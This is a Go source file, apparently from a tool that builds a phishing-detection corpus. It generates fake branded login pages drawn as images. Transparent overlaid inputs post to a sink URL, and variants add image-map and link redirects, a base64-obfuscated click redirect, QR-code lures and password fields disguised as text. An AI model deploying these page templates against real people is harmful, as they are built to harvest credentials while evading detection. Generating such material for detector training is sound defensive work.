package corpus

import (
	"bytes"
	"encoding/base64"
	"fmt"
	"image"
	"image/color"
	"image/draw"
	"image/png"
	"strconv"
	"strings"

	"golang.org/x/image/font"
	"golang.org/x/image/font/gofont/goregular"
	"golang.org/x/image/font/opentype"
	"golang.org/x/image/math/fixed"
)

// pictures are the methods that show a picture of a page.
var pictures = []trick{
	{"fields", "lllcpt", true, false, func(s *scene) map[string][]byte { return overlay(s, "transparent", false) }},
	{"one-field", "l", true, false, func(s *scene) map[string][]byte { return overlay(s, "transparent", true) }},
	{"inline-fields", "llcp", true, false, inlined},
	{"link", noWallet, false, true, func(s *scene) map[string][]byte {
		return drawn(s, `<a href="`+s.Sink+`"><img src="screen.png" alt=""></a>`)
	}},
	{"map", "llpt", false, true, func(s *scene) map[string][]byte {
		return drawn(s, `<img src="screen.png" usemap="#m"><map name="m"><area shape="rect" coords="40,180,440,620" href="`+s.Sink+`"></map>`)
	}},
	{"click", all, false, true, func(s *scene) map[string][]byte {
		return drawn(s, `<img src="screen.png" id="i" style="cursor:pointer"><script>i.onclick=function(){open(atob("`+encode("https://"+s.Host+"/a")+`"),"_self")}</script>`)
	}},
	{"code", "llwp", false, true, scanned},
}

// family is the font of the pictures. It has Latin letters alone: the pictures of other languages have English texts.
var family = func() *opentype.Font {
	f, err := opentype.Parse(goregular.TTF)
	if err != nil {
		panic(err)
	}
	return f
}()

// A sheet is a picture while it is drawn.
type sheet struct{ *image.RGBA }

func newSheet(width, height int, back color.Color) sheet {
	s := sheet{image.NewRGBA(image.Rect(0, 0, width, height))}
	s.fill(s.Rect, back)
	return s
}

func (s sheet) fill(r image.Rectangle, c color.Color) {
	draw.Draw(s, r, image.NewUniform(c), image.Point{}, draw.Src)
}

// write draws a text from a point, broken at a width.
func (s sheet) write(x, y, width int, size float64, c color.Color, text string) {
	face, err := opentype.NewFace(family, &opentype.FaceOptions{Size: size, DPI: 72})
	if err != nil {
		panic(err)
	}
	d := font.Drawer{Dst: s, Src: image.NewUniform(c), Face: face, Dot: fixed.P(x, y)}
	for _, word := range strings.Fields(text) {
		if d.Dot.X+d.MeasureString(word) > fixed.I(x+width) && d.Dot.X > fixed.I(x) {
			d.Dot.X, d.Dot.Y = fixed.I(x), d.Dot.Y+fixed.I(int(size*1.4))
		}
		d.DrawString(word + " ")
	}
}

func (s sheet) png() []byte {
	var out bytes.Buffer
	fast := png.Encoder{CompressionLevel: png.BestSpeed}
	if err := fast.Encode(&out, s); err != nil {
		panic(err)
	}
	return out.Bytes()
}

// accent returns the colour of the scene.
func (s *scene) accent() color.Color {
	text := strings.TrimPrefix(s.Accent, "#")
	if len(text) == 3 {
		text = text[:1] + text[:1] + text[1:2] + text[1:2] + text[2:] + text[2:]
	}
	n, _ := strconv.ParseUint(text, 16, 32)                                      // all accents are of this package
	return color.RGBA{R: uint8(n >> 16), G: uint8(n >> 8), B: uint8(n), A: 0xff} // #nosec G115 -- a byte each
}

// top is the place of a field in the picture.
func top(i int) int { return 220 + 62*i }

// screen draws the scene as a screenshot of 480 pixels in width.
func screen(s *scene) sheet {
	if s.Lang == "ja" || s.Lang == "zh" || strings.IndexFunc(s.Brand, foreign) >= 0 {
		s.Lang = "en"
		for strings.IndexFunc(s.Brand, foreign) >= 0 {
			s.Brand = pick(s.rng, brands[s.Kind])
		}
		s.Head, s.Button, s.Lead = s.any(s.Kind+".head"), s.any("button"), strings.ReplaceAll(s.any(s.Kind+".lead"), "{b}", s.Brand)
		s.Fields = nil
		s.ask()
	}
	out := newSheet(480, top(len(s.Fields))+110, color.White)
	out.fill(image.Rect(0, 0, 480, 60+s.rng.IntN(9)), s.accent())
	out.write(20, 40, 440, 26, color.White, s.Brand)
	out.write(40, 110, 400, 24, color.Black, s.Head)
	out.write(40, 140, 400, 14, color.Gray{Y: 0x55}, s.Lead)
	for i, f := range s.Fields {
		box := image.Rect(40, top(i), 440, top(i)+44)
		out.fill(box, color.Gray{Y: 0x99})
		out.fill(box.Inset(1), color.White)
		out.write(50, top(i)-5, 380, 12, color.Gray{Y: 0x44}, f.Label)
	}
	at := top(len(s.Fields))
	out.fill(image.Rect(40, at, 200, at+42), s.accent())
	out.write(60, at+28, 140, 17, color.White, s.Button)
	return out
}

// drawn returns a page of the picture with the markup below its title.
func drawn(s *scene, markup string) map[string][]byte {
	if len(s.Fields) > 6 {
		s.Fields = s.Fields[:6]
	}
	picture := screen(s).png()
	files := single(`<!DOCTYPE html><html><head><meta charset="utf-8"><title>` + s.Title + `</title><style>body{margin:0;text-align:center}</style></head><body>` + markup + `</body></html>`)
	files["screen.png"] = picture
	return files
}

// overlay returns a page of the picture with a field above each drawn one, or above the last one.
func overlay(s *scene, back string, last bool) map[string][]byte {
	files := drawn(s, "")
	var fields strings.Builder
	for i, f := range s.Fields {
		if last && i < len(s.Fields)-1 {
			continue
		}
		fmt.Fprintf(&fields, `<input name="v%d" type="%s" style="position:absolute;left:42px;top:%dpx;width:392px;height:40px;border:0;background:%s;outline:0;font-size:17px">`,
			i, f.Type, top(i)+2, back)
	}
	page := fmt.Sprintf(`<!doctype html><html><head><meta charset="utf-8"><title>%s</title></head><body><form method="post" action="%s" style="position:relative;width:480px;margin:0 auto"><img src="screen.png" width="480">%s<button style="position:absolute;left:40px;top:%dpx;width:160px;height:42px;opacity:0"></button></form></body></html>`,
		s.Title, s.Sink, fields.String(), top(len(s.Fields)))
	files["index.html"] = []byte(page)
	return files
}

// inlined returns the same with the picture within the page, and texts that hide as dots are drawn by the font of the browser.
func inlined(s *scene) map[string][]byte {
	files := overlay(s, "transparent", false)
	page := strings.Replace(string(files["index.html"]), "screen.png", "data:image/png;base64,"+base64.StdEncoding.EncodeToString(files["screen.png"]), 1)
	return single(strings.ReplaceAll(page, `type="password"`, `style2="" type="text" autocomplete="off"`))
}

// scanned returns a picture with a code for telephones that leads elsewhere.
func scanned(s *scene) map[string][]byte {
	data, err := files.ReadFile(fmt.Sprintf("pages/qr%d.png", 1+s.rng.IntN(4)))
	if err != nil {
		panic(err)
	}
	code, err := png.Decode(bytes.NewReader(data))
	if err != nil {
		panic(err)
	}
	s.Fields = nil
	made := drawn(s, `<img src="screen.png">`)
	out := newSheet(480, 560, color.White)
	out.fill(image.Rect(0, 0, 480, 60), s.accent())
	out.write(20, 40, 440, 26, color.White, s.Brand)
	out.write(40, 110, 400, 22, color.Black, s.Head)
	out.write(40, 150, 400, 15, color.Gray{Y: 0x44}, s.T("scan"))
	draw.Draw(out, code.Bounds().Add(image.Pt(140, 220)), code, code.Bounds().Min, draw.Over)
	made["screen.png"] = out.png()
	return made
}

// logo draws the name of the brand.
func logo(s *scene) []byte {
	out := newSheet(200, 50, color.White)
	out.write(10, 34, 190, 24, s.accent(), s.Brand)
	return out.png()
}

// foreign reports whether the font has no such letter.
func foreign(r rune) bool { return r > 0xff }
